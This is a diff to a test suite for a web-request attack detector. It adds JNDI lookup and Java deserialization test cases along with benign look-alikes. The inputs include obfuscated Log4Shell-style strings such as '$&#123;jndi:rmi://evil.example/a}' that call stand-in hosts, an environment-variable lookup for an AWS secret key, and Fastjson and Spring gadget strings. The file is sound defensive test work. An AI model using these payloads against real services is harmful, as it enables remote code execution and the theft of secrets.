@@ -27,6 +27,9 @@ describe('JNDI detector', () => {
       { value: '${${upper:j}${upper:n}${upper:d}${upper:i}:dns://evil/a}' },
       { value: "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil/a}" },
       { value: '${env:AWS_SECRET_ACCESS_KEY}', severity: 1, rule: 'jndi.log4j_lookup' },
+      // the brace as an HTML reference, for an application that unescapes before it logs
+      { value: '{"foo": "$&LBRACE;jndi:ldap://evil.example/a}"}', rule: 'jndi.lookup' },
+      { value: '$&#123;jndi:rmi://evil.example/a}' },
     ],
     'header',
   );
@@ -34,6 +37,7 @@ describe('JNDI detector', () => {
     { value: '${price} and ${name}' },
     { value: 'Mozilla/5.0 (X11; Linux x86_64)' },
     { value: 'const url = `${base}/api`;', location: 'body' },
+    { value: 'Prices: $&lbrace; is how the template escapes a brace', location: 'body' },
   ]);
   checkRobust(detectJndi);
 });
@@ -95,6 +99,12 @@ describe('Java class names by context (class-names.ts, name-context.ts)', () => 
     { value: '{"@type":"java.io.FileOutputStream","file":"/tmp/x"}' },
     { value: 'handle=com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext("http://x/a.xml")' },
     { value: "Class.forName('java.lang.Runtime')" },
+    // plain Java types where nobody types: names (binder paths, Jackson wrapper-object typing), cookies, headers
+    { value: 'java.lang.String', location: 'body_name', rule: 'java.class_name' },
+    { value: 'java.lang.Integer', location: 'query_name' },
+    { value: 'org.apache.commons', location: 'cookie_name' },
+    { value: 'java.lang.StringBuilder', location: 'cookie' },
+    { value: 'java.lang.Object', location: 'header' },
   ]);
   checkBenign(detectJavaDeserialization, [
     { value: 'www.forclosure.com' },
@@ -115,6 +125,15 @@ describe('Java class names by context (class-names.ts, name-context.ts)', () => 
     { value: 'java.lang.String', below: 2 },
     { value: 'org.apache.commons', below: 2 },
     { value: 'java.util.HashMap', below: 2 },
+    // typed where people type (a developer site's search, an API's type-name field): suspicious only
+    { value: 'java.lang.String', location: 'body', below: 2 },
+    { value: '{"objectTypeName": "java.util.ArrayList"}', location: 'raw_body', below: 2 },
+    // a log-level map is keyed by package; a key that only starts with a package is no class name
+    { value: 'org.apache.commons', location: 'body_name', below: 2 },
+    { value: 'org.apache.commons:commons-lang3', location: 'body_name', below: 2 },
+    { value: 'java.lang.String is immutable', location: 'header', below: 2 },
+    // XML element names are the document's vocabulary: an element holding only text builds nothing
+    { value: '<?xml version="1.0"?><xml><java.lang.Runtime a="b">value</java.lang.Runtime></xml>', location: 'raw_body' },
     // code in a post is what the author shows
     {
       value: 'How do I run a command?\n\nI tried this:\n\n```java\nProcess p = java.lang.Runtime.getRuntime().exec("ls");\n```\n\nbut it hangs.',
@@ -132,6 +151,8 @@ describe('Java serialized streams (serialized.ts)', () => {
     { value: 'AAAKztAAUdAAEdGVzdA' },
     { value: '\u00c2\u00ac\u00c3\u00ad\u0000\u0005sr' },
     { value: 'ac ed 00 05 73 72' },
+    // the raw bytes after a UTF-8 decoder replaced AC and ED
+    { value: '\ufffd\ufffd\u0000\u0005sr' },
     // gzip of a serialized stream, base64 (the JSF ViewState shape)
     { value: gzipBase64(Buffer.from([0xac, 0xed, 0, 5, 0x73, 0x72, 0, 0x11])), rule: 'java.serialized_gzip' },
   ]);
